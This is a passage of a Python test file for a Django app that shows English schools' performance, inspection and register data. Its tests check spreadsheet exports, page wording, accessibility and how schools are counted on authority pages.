                ["ks2_rwm_expected", "ks4_attainment8", "ks4_progress8", "fsm_pct", "ks2_rwm_expected"][i % 5],
                "A measure",
                "per cent",
                "2018/19",
                value,
                "suppressed" if value is None else "",
                30 + i % 7 if i % 3 else None,
                "Key stage 2 performance tables (final)",
                "2018-2019-936-ks2final.csv",
                "yes",
            ]
        )
    return rows


def best_times(rows, *makers, rounds=5) -> list[float]:
    """Each maker's best time over `rounds`, the makers taking turns, in this process's own processor time: the suite
    shares its cores with other processes, whose work would otherwise count, and more against the longer task."""
    import time

    best = [float("inf")] * len(makers)
    for _ in range(rounds):
        for i, make in enumerate(makers):
            started = time.process_time()
            make(rows)
            best[i] = min(best[i], time.process_time() - started)
    return best


def test_the_xlsx_download_takes_about_as_long_as_the_csv():
    """An authority's download is some 10,700 rows: writing them through openpyxl (without lxml) took 1.7 to 3.1 s, over
    forty times the CSV's; XlsxWriter takes some fifteen times. Timed against the CSV of the same rows, so that a busy
    machine slows both alike."""
    from evidence.exports import as_csv, as_xlsx

    rows = export_rows(5000)
    csv_time, xlsx_time = best_times(rows, as_csv, lambda r: as_xlsx(r, "Surrey results"))
    assert xlsx_time < 25 * csv_time, f"XLSX {xlsx_time:.3f} s, CSV {csv_time:.3f} s"


def test_the_xlsx_download_keeps_texts_as_text_figures_in_their_places_and_the_header_in_view():
    from evidence.exports import HEADER, XLSX_WIDTHS, as_xlsx

    rows = export_rows(60)
    rows[0][1], rows[1][1], rows[2][1], rows[3][1] = "=1+1", "#N/A", " Padded name ", "Bell\x07 School"
    rows[4][12] = "+44 file.csv"
    book = load_workbook(io.BytesIO(as_xlsx(rows, "Surrey results: 2018/19 [draft]")))
    sheet = book.active
    assert sheet.title == "Surrey results 201819 draft"  # no character a sheet's name may not have
    assert [cell.value for cell in sheet[1]] == HEADER and all(cell.font.b for cell in sheet[1])
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.max_row) == ("A2", "A1:N61", 61)
    # Each as wide as its characters, and the cell's padding, which a spreadsheet adds to the width it is given.
    assert {column: int(sheet.column_dimensions[column].width) for column in XLSX_WIDTHS} == XLSX_WIDTHS
    cells = {cell.coordinate: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    assert not [c.coordinate for c in cells.values() if c.data_type in ("f", "e")]  # no formula, no error value
    assert [cells[f"B{n}"].value for n in (2, 3, 4, 5)] == ["=1+1", "#N/A", " Padded name ", "Bell School"]
    assert cells["M6"].value == "+44 file.csv" and cells["M6"].data_type == "s"
    figures = [(cells[f"I{n}"].value, cells[f"I{n}"].number_format) for n in range(52, 57)]
    assert figures == [(56, "General"), (51.6, "0.0"), (-0.8, "0.00"), (13.9, "0.0"), (None, "General")]
    assert (cells["A52"].value, cells["A52"].data_type, cells["K52"].value) == (125001, "n", 31)
    assert cells["J56"].value == "suppressed" and cells["A2"].value is None and cells["J52"].value is None


def test_the_xlsx_download_looks_for_control_characters_only_in_the_texts_that_do_not_print(monkeypatch):
    """Looking for the control characters XML has no place for in every text of an authority's download (some 105,000)
    took a sixth of its time: only a text with a character that does not print is looked in, and cleared of them."""
    from evidence import exports

    rows = export_rows(60)
    rows[3][1], rows[4][1] = "Bell\x07 School", "Line\nend\tSchool"
    looked_in = []
    control = exports.CONTROL_CHARACTERS

    class Counted:
        def sub(self, replacement, text):
            looked_in.append(text)
            return control.sub(replacement, text)

    monkeypatch.setattr(exports, "CONTROL_CHARACTERS", Counted())
    sheet = load_workbook(io.BytesIO(exports.as_xlsx(rows, "Surrey results"))).active
    assert looked_in == ["Bell\x07 School", "Line\nend\tSchool"]
    assert [sheet[f"B{n}"].value for n in (5, 6)] == ["Bell School", "Line\nend\tSchool"]


def test_a_report_cards_areas_come_in_ofsteds_order_whatever_order_they_are_stored_in(client, surrey):
    """PostgreSQL keeps JSON keys in an order of its own: the pages and the command put them back in Ofsted's."""
    from evidence.models import Framework, Inspection
    from evidence.ofsted_words import REPORT_CARD_AREAS

    card = Inspection.objects.get(school__urn=125037, framework=Framework.REPORT_CARD)
    ofsteds = [area for area in REPORT_CARD_AREAS.values() if area in card.judgements]
    Inspection.objects.filter(pk=card.pk).update(judgements=dict(sorted(card.judgements.items(), reverse=True)))
    assert list(command_json(125037)["inspections"][0]["judgements"]) == ofsteds
    sign_in(client, surrey)

    def order_on(page) -> list[str]:
        text = client.get(page).content.decode()
        return sorted(ofsteds, key=lambda area: text.index(f">{area}"))

    assert order_on(reverse("evidence:school-timeline", args=[125037])) == ofsteds
    assert order_on(reverse("evidence:authority-results", args=[936])) == ofsteds


def test_the_authoritys_download_links_say_what_they_download(client, world):
    """A screen reader's list of links reads each link alone: 'CSV' says nothing of what it downloads."""
    sign_in(client, world.users[Role.LA_OFFICER])
    html = client.get(reverse("evidence:authority-results", args=[world.la.code])).content.decode()
    links = re.findall(r'<a class="govuk-link" href="/authorities/\d+/results\.(?:csv|xlsx)" download>(.*?)</a>', html, re.S)
    named = [" ".join(re.sub(r"<[^>]+>", "", link).split()) for link in links]
    assert named == [f"CSV file of {world.la.name}'s results", f"Excel (XLSX) file of {world.la.name}'s results"]


def test_reading_writing_and_maths_are_named_in_words_in_every_measure():
    """'RWM' is DfE's column shorthand: the measures beside them say 'reading, writing and maths', and so do these."""
    from evidence.catalogue import MEASURES

    assert [spec.label for spec in MEASURES if "RWM" in spec.label] == []


def test_the_outcomes_table_counts_apart_the_schools_that_replaced_one_the_register_does_not_hold(client, surrey):
    """Weydon School (an academy since 2011) has no graded inspection of its own; the school it replaced, URN 125254,
    closed before the register's extract of open schools, so its inspection cannot be counted for it."""
    from evidence.graded import REPLACED_UNHELD

    assert graded_counts_of(School.objects.filter(urn=136531)) == [("No graded inspection on record", 0, None), (REPLACED_UNHELD, 1, None)]
    sign_in(client, surrey)
    page = client.get(reverse("evidence:authority-results", args=[936])).content.decode()
    counts = dict(
        re.findall(
            r'<th scope="row" class="govuk-table__header">([^<]+)</th>\s*<td class="govuk-table__cell govuk-table__cell--numeric">([\d,]+)',
            page,
        )
    )
    # Of Surrey's 25 open state-funded schools with none on record, 14 are academies whose predecessor it lacks.
    assert (counts["No graded inspection on record"], counts[REPLACED_UNHELD]) == ("11", "14")
    # Why they are apart, for every reader; what to import, for those who can (an officer cannot).
    advice = "Importing a GIAS extract that includes closed schools would count them by their predecessors&#39; inspections."
    apart = "14 schools replaced a school the register does not hold, so the inspection they would be counted by is not on record: they have a row of their own."
    assert apart in page and advice not in page
    # How a school not yet inspected in its current form is counted is said once, above the table, on each page that counts.
    counted = "A school that Ofsted has not yet inspected in its current form (an academy, converter or sponsored) is counted by"
    assert page.count(counted) == 1 and page.index(counted) < page.index(REPLACED_UNHELD)
    register = client.get(reverse("register:authority-detail", args=[936])).content.decode()
    assert register.count(counted) == 1 and register.index(counted) < register.index(REPLACED_UNHELD) and apart in register
    assert "From each school" not in register
    admin = UserFactory(email="admin@surrey.example")
    grant(admin, Role.LA_ADMIN, School.objects.get(urn=136531).la)
    sign_in(client, admin)
    assert advice in client.get(reverse("evidence:authority-results", args=[936])).content.decode()


def test_the_outcomes_table_says_how_many_schools_gias_links_to_a_successor_the_register_lacks(client, surrey):
    """All Hallows Catholic School (125315) is open in the demo's register, but GIAS links it to its successor, URN 151190,
    which opened after the extract: the overview counts it under its old URN, and says how many such schools there are."""
    from register.models import SchoolLink

    assert import_file(LINKS_2025).outcome == "succeeded"  # newer than the register's extracts, as in the demo
    successors = SchoolLink.objects.filter(link_type__startswith="Successor", urn__in=state_funded_open_urns(936))
    expected = {link.urn for link in successors if not School.objects.filter(urn=link.linked_urn).exists()}
    assert 125315 in expected
    sign_in(client, surrey)
    for page in ("evidence:authority-results", "register:authority-detail"):
        words = text(client.get(reverse(page, args=[936])))
        assert f"GIAS links {len(expected)} of the open schools counted here to a successor the register does not hold" in words
        assert "Importing a newer GIAS extract" not in words  # an officer cannot import
    admin = UserFactory(email="admin@surrey.example")
    grant(admin, Role.LA_ADMIN, School.objects.get(urn=125315).la)
    sign_in(client, admin)
    assert "Importing a newer GIAS extract would bring the successors in." in text(
        client.get(reverse("evidence:authority-results", args=[936]))
    )


def state_funded_open_urns(la_code: int) -> list[int]:
    from register.presenters import state_funded

    return list(School.objects.filter(la__code=la_code).open().filter(state_funded()).values_list("urn", flat=True))


def test_authority_overview_counts_report_cards_safeguarding_and_categories_of_concern(client, surrey):
    """Report cards have no overall grade; safeguarding not met and a category of concern are what an officer must not miss."""
    from evidence.models import Framework, Inspection

    sign_in(client, surrey)
    cards = Inspection.objects.filter(framework=Framework.REPORT_CARD, school__la__code=936)
    met = cards.filter(safeguarding="Met").values("school").distinct().count()
    assert met > 0
    page = text(client.get(reverse("evidence:authority-results", args=[936])))
    assert f"Safeguarding standards met {met} Safeguarding standards not met 0 In a category of concern None" in page
    one = cards.filter(safeguarding="Met").order_by("school__urn").first()
    Inspection.objects.filter(pk=one.pk).update(safeguarding="Not met", category_of_concern="SM")
    page = text(client.get(reverse("evidence:authority-results", args=[936])))
    assert f"Safeguarding standards met {met - 1} Safeguarding standards not met 1 In a category of concern: special measures 1" in page


def test_the_register_page_points_to_the_census_where_the_registers_extract_gives_no_pupils(client, surrey):
    """Busbridge Infant School (149037) opened in April 2022, after the census its register extract gives: the extract
    has no pupils or free school meals figure for it, but the January 2023 census does (162 pupils), on its results page."""
    sign_in(client, surrey)
    page = text(client.get(reverse("register:school-detail", args=[149037])))
    census = "Not given by GIAS The census figures for Busbridge Infant School in Results and data"
    assert f"Pupils {census}" in page and f"Pupils eligible for free school meals {census}" in page
    assert "162" in text(client.get(reverse("evidence:school-results", args=[149037])))
    # A figure the census does not give either is not linked to: each is looked for on its own.
    Observation.objects.filter(school__urn=149037, measure__code="fsm_pct").update(value=None, status=Status.SUPPRESSED)
    page = text(client.get(reverse("register:school-detail", args=[149037])))
    assert f"Pupils {census}" in page and "Pupils eligible for free school meals Not recorded" in page
    # A school the extract gives figures for keeps them, with the census they are of.
    assert "Not given by GIAS" not in text(client.get(reverse("register:school-detail", args=[124937])))


def test_the_register_pages_census_links_land_on_their_measure_on_the_results_page(client, surrey):
    """'Later censuses' and 'The census figures' lead to the section of the results page about the figure beside them
    (the free school meals measure's, or the pupils on roll's), not to the top of the page, eight tables above it; the
    section is in the first tab's panel, which GOV.UK's tabs show when the address names no tab."""
    sign_in(client, surrey)
    for urn, words in ((124937, "Later censuses"), (149037, "The census figures")):
        html = client.get(reverse("register:school-detail", args=[urn])).content.decode()
        results = reverse("evidence:school-results", args=[urn])
        links = re.findall(rf'<a class="govuk-link govuk-body-s" href="([^"]+)">{words}<', html)
        fsm = html.split("Pupils eligible for free school meals", 1)[1].split("</dd>", 1)[0]
        assert f'href="{results}#m-fsm_pct">{words}<' in fsm, urn
        assert all(link.startswith(f"{results}#m-") for link in links) and links, urn
        page = client.get(results).content.decode()
        first_panel = page.split('class="govuk-tabs__panel"', 2)[1]
        for link in links:
            assert f'<section class="govuk-!-margin-bottom-8" id="{link.split("#")[1]}"' in first_panel, link
    html = client.get(reverse("register:school-detail", args=[149037])).content.decode()
    pupils = re.search(r">\s*Pupils\s*</dt>(.*?)</dd>", html, re.S)[1]
    assert f'href="{reverse("evidence:school-results", args=[149037])}#m-pupils">The census figures<' in pupils


def test_a_chart_marks_a_year_whose_figure_is_suppressed_and_one_without_such_a_year_does_not(client, surrey):
    """North Downs Primary School (124949): its disadvantaged pupils' gap was suppressed for 2017/18 (five pupils). The
    chart marks the year and says so, in its description and its key; the chart of all its pupils' results, with a
    figure every year, has neither."""
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[124949])).content.decode()
    gap = section(html, "ks2_rwm_expected_gap")
    assert table_rows(gap)[2][:2] == ["2017/18", "suppressed"]
    assert 'aria-describedby="chart-ks2_rwm_expected_gap-absent' in gap
    assert "No figure (see the table): This school, 2017/18 (suppressed).</desc>" in gap
    assert "<title>This school, 2017/18: suppressed</title>" in gap
    assert "No figure (see the table)</li>" in gap
    everyone = section(html, "ks2_rwm_expected")
    assert "suppressed" not in everyone and "No figure" not in everyone and "-absent" not in everyone


def test_each_box_that_scrolls_sideways_on_the_results_and_import_pages_is_named_by_the_words_on_the_page(client, surrey):
    """A chart's box is named by the chart's title and described by the hint below it that it scrolls for earlier
    years; a table's by its caption, or, where a caption would only repeat it, by the heading above the table (the
    pupils by ethnic group, an import's changes, the past imports), which no hidden caption says again."""
    from register.models import LocalAuthority

    from .test_templates import heard_twice, scroll_boxes, table_names

    admin = UserFactory(email="admin@surrey.example")
    grant(admin, Role.LA_ADMIN, LocalAuthority.objects.get(code=936))
    sign_in(client, admin)
    register_changes = ImportRun.objects.get(file_name=GIAS_2022.name)
    hint = "Scroll the chart sideways for earlier years."
    pages = {
        reverse("evidence:school-results", args=[125037]): "Pupils by ethnic group, 2022/23",
        reverse("evidence:authority-results", args=[936]): "Pupils by ethnic group, 2022/23",
        reverse("evidence:authority-statistics", args=[936]): "Pupils by ethnic group, 2022/23",
        reverse("imports:list"): "Past imports",
        reverse("imports:detail", args=[register_changes.pk]): "Changes to the register",
    }
    charts = 0
    for path, named_by_heading in pages.items():
        html = client.get(path).content.decode()
        boxes = scroll_boxes(html)
        assert boxes and all(name for name, _ in boxes), (path, boxes)
        titles = re.findall(r'<title id="chart-[^"]+-title">([^<]*)</title>', html)
        assert [name for name, described in boxes if described] == titles, path
        assert {described for _, described in boxes if described} <= {hint}, path
        assert named_by_heading in [name for name, _ in boxes] and named_by_heading in table_names(html), path
        assert heard_twice(html) == [] and f">{named_by_heading}</caption>" not in html, path
        charts += len(titles)
    assert charts  # the results draw charts: each box that holds one was checked


def test_results_pages_say_what_no_data_means_where_a_table_shows_it(client, surrey):
    """Grayswood Church of England (Aided) Primary School (125245) is in KS2's 2018/19 table but not in 2016/17's, so
    its Key stage 2 table reads "no data" for 2016/17; the page says what that means. The authority's page shows no such
    cell (test_results_pages_say_what_each_word_shown_in_place_of_a_figure_means) until a figure of its own is gone."""
    sign_in(client, surrey)
    html = client.get(reverse("evidence:school-results", args=[125245])).content.decode()
    years = {cells[0]: cells[1] for cells in table_rows(section(html, "ks2_rwm_expected"))[1:]}
    assert years["2016/17"] == "no data"
    page = text(client.get(reverse("evidence:school-results", args=[125245])))
    words = page[page.index("Why some figures are shown as words") : page.index("A missing figure is never shown or counted as zero")]
    assert "no data : no imported file gives a figure for that year: the school may not have been open" in words
    AreaObservation.objects.filter(area=Area.LA, la_code=936, measure__code="ks2_rwm_expected", year=2017).delete()
    page = text(client.get(reverse("evidence:authority-results", args=[936])))
    words = page[page.index("Why some figures are shown as words") : page.index("A missing figure is never shown or counted as zero")]
    assert "no data : no imported file gives a figure for that year: that year" in words


def test_the_download_gives_the_authoritys_figures_for_each_phase_its_schools_pages_show(client, surrey):
    """A primary school's page sets Surrey's primary schools' SEN support (2018/19) beside England's: the download has it too."""
    sign_in(client, surrey)
    rows = [
        r for r in csv_rows(client, 936) if r["URN"] == "" and r["Academic year"] == "2018/19" and r["Measure code"] == "sen_support_pct"
    ]
    by_area = {r["School"]: r["Value"] for r in rows}
    assert by_area["Surrey (state-funded primary schools)"] == "11.3"
    assert by_area["Surrey"] == "11.0"
    assert list(by_area).index("Surrey (state-funded primary schools)") < list(by_area).index("England (state-funded primary schools)")
    school = School.objects.get(urn=124939)
    html = client.get(reverse("evidence:school-results", args=[school.urn])).content.decode()
    assert "11.3% (state-funded primary schools)" in html


def test_a_signed_in_reader_of_the_statistics_is_led_to_the_authoritys_results_where_their_roles_open_them(client, world):
    """Signed out, the statistics page says to sign in to see each school's figures; signed in, it said only that none
    is given here, with no way on to the authority's results page their roles open (nor to one they do not)."""
    results = f'href="{reverse("evidence:authority-results", args=[world.la.code])}"'
    page = client.get(reverse("evidence:authority-statistics", args=[world.la.code])).content.decode()
    assert "sign in</a> to see them" in page and results not in page
    sign_in(client, world.users[Role.HEADTEACHER])
    page = unescape(client.get(reverse("evidence:authority-statistics", args=[world.la.code])).content.decode())
    assert (
        f"No school's own figures are given here: download them from <a class=\"govuk-link\" {results}>Surrey's results and data</a>."
        in page
    )
    assert client.get(reverse("evidence:authority-results", args=[world.la.code])).status_code == 200
    elsewhere = unescape(client.get(reverse("evidence:authority-statistics", args=[world.other_la.code])).content.decode())
    assert "No school's own figures are given here." in elsewhere and "download them from" not in elsewhere
    assert client.get(reverse("evidence:authority-results", args=[world.other_la.code])).status_code == 404


def test_a_measures_description_names_no_dfe_column_and_says_what_its_abbreviations_stand_for(client, surrey):
    """Read by a head or a governor: the disadvantaged gaps are said in words, not by DfE's column names (DIFFN_RWM_EXP),
    and SEN support and EHC plans are spelt out. A database imported into before the words changed is given them too."""
    import importlib

    from django.apps import apps

    sign_in(client, surrey)
    primary = unescape(client.get(reverse("evidence:school-results", args=[124939])).content.decode())
    secondary = unescape(client.get(reverse("evidence:school-results", args=[125271])).content.decode())  # Ash Manor School
    for html, code in ((primary, "ks2_rwm_expected_gap"), (secondary, "ks4_attainment8_gap"), (secondary, "ks4_progress8_gap")):
        described = section(html, code).split("What this measure means")[0]  # DfE's own words, which name their column
        assert "minus that of other pupils nationally" in described and "DIFFN" not in described
    assert "special educational needs (SEN) whom the school supports without an education, health and care (EHC) plan" in (
        section(primary, "sen_support_pct")
    )
    assert "an education, health and care (EHC) plan, which sets out the support" in section(primary, "ehcp_pct")
    Measure.objects.filter(code="ks4_progress8_gap").update(description="The school's disadvantaged pupils (DfE's DIFFN_P8MEA).")
    importlib.import_module("evidence.migrations.0020_measure_descriptions_in_plain_words").describe(apps, None)
    assert "DIFFN" not in Measure.objects.get(code="ks4_progress8_gap").description
